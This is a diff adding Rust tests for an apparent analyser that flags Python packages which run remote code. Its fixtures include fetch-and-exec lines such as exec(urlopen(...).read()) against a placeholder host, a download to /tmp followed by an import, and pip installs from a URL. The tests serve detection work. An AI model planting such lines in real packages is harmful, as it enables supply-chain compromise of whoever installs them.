@@ -210,10 +210,14 @@ fn what_is_handed_over_is_what_it_is_computed_to_be() {
         "functions = [go]\ndef call(*all):\n    all[0]()\ncall(*functions)\n",
         "T = (go,)\ndef call(all):\n    for f in all:\n        f()\ncall(T)\n",
         "all = [print] * 300 + [go]\nfor f in all:\n    f()\n",
+        "all = [PRINTS go]\nfor f in all:\n    f()\n",
         "class C:\n    def step(self):\n        go()\nfor make in [C]:\n    make().step()\n",
         "class B:\n    pass\nclass C(B):\n    def step(self):\n        go()\nfor make in B.__subclasses__():\n    make().step()\n",
+        "def call(f):\n    f()\nclass C:\n    def __call__(self):\n        go()\ncall(C())\n",
+        "class C:\n    def __init__(self, *all):\n        self.all = all\n    def run(self):\n        for f in self.all:\n            f.step()\nclass S:\n    def step(self):\n        go()\nC(S(), S()).run()\n",
     ] {
-        assert!(own(code), "{code}");
+        let code = code.replace("PRINTS", &"print, ".repeat(1_000));
+        assert!(own(&code), "{code}");
     }
     for code in [
         "T = (go,)\ndef call(all):\n    for f in all:\n        print(f.__name__)\ncall(T)\n",
@@ -309,4 +313,99 @@ fn a_builder_calls_what_settings_name_and_what_a_back_end_hands_on() {
          setup(cmdclass={{'install': X}})\n"
     );
     assert!(build(&[("setup.py", &above)]));
+}
+
+#[test]
+fn a_text_that_a_module_runs_calls_its_functions_and_is_what_it_documents() {
+    let fetch = "import urllib.request; exec(urllib.request.urlopen('https://a.invalid/b').read())";
+    assert!(own("exec('go()')\n"));
+    assert!(own("eval('go')()\n"));
+    assert!(own(
+        "class C:\n    def __init__(self):\n        go()\nexec('C()')\n"
+    ));
+    assert!(module(
+        &format!("def f():\n    \"{fetch}\"\nexec(f.__doc__)\n"),
+        &[]
+    ));
+    assert!(!own("exec('go')\n"));
+    assert!(!own("exec('def go():\\n    pass\\ngo()')\n"));
+    assert!(!own("exec('x = \"go()\"')\n"));
+}
+
+#[test]
+fn an_address_is_what_a_field_or_a_property_gives() {
+    let remote = "import urllib.request\nclass C:\n    def __init__(self, u):\n        self._u = 'https://a.invalid/b'\n    @property\n    def url(self):\n        return 'https://a.invalid/b'\n    def run(self):\n        exec(urllib.request.urlopen(ADDRESS).read())\nC(1).run()\n";
+    for address in ["self._u", "self.url", "C(1).url"] {
+        let code = remote.replace("ADDRESS", address);
+        let found = analyse(&Package::new(&Tree {
+            entries: vec![
+                file("a/__init__.py", &code),
+                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+            ],
+            ..Tree::default()
+        }));
+        let mut flows = found.flows.iter();
+        assert!(
+            flows.any(|flow| flow.source_name.contains("a.invalid")),
+            "{address}: {:?}",
+            found.flows
+        );
+    }
+}
+
+#[test]
+fn a_module_that_is_written_where_a_file_looks_for_modules_is_run_by_its_import() {
+    let write = "import sys, urllib.request\nurllib.request.urlretrieve('https://a.invalid/b', '/tmp/zz.py')\n";
+    for import in [
+        "sys.path.insert(0, '/tmp')\nimport zz\n",
+        "sys.path.append('/tmp')\n__import__('zz')\n",
+        "import importlib.util\ns = importlib.util.spec_from_file_location('zz', '/tmp/zz.py')\n",
+    ] {
+        assert!(runs_file(&format!("{write}{import}")), "{import}");
+    }
+    for import in [
+        "import zz\n",
+        "sys.path.insert(0, '/opt')\nimport zz\n",
+        "sys.path.insert(0, '/tmp')\nimport yy\n",
+    ] {
+        assert!(!runs_file(&format!("{write}{import}")), "{import}");
+    }
+}
+
+fn runs_file(code: &str) -> bool {
+    let found = analyse(&Package::new(&Tree {
+        entries: vec![
+            file("a/__init__.py", code),
+            file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+        ],
+        ..Tree::default()
+    }));
+    let mut flows = found.flows.iter();
+    flows.any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Import)
+}
+
+#[test]
+fn pip_runs_what_it_is_told_to_install_by_its_address() {
+    for code in [
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'https://a.invalid/b.tar.gz'])\n",
+        "import os\nos.system('pip install git+https://a.invalid/b')\n",
+        "import pip\npip.main(['install', 'https://a.invalid/b.tar.gz'])\n",
+    ] {
+        assert!(module(code, &[]), "{code}");
+    }
+    for code in [
+        "import os\nos.system('pip install -i https://a.invalid/simple b')\n",
+        "import pip\npip.main(['list'])\n",
+    ] {
+        assert!(!module(code, &[]), "{code}");
+    }
+}
+
+#[test]
+fn a_module_that_answers_for_names_runs_where_it_is_asked_for_one_that_it_has_not() {
+    let answers = format!("{GO}def __getattr__(name):\n    go()\nknown = 1\n");
+    let other = [("a/c.py", answers.as_str())];
+    assert!(module("from .c import anything\n", &other));
+    assert!(!module("from .c import known\n", &other));
+    assert!(!module("from . import c\n", &other));
 }
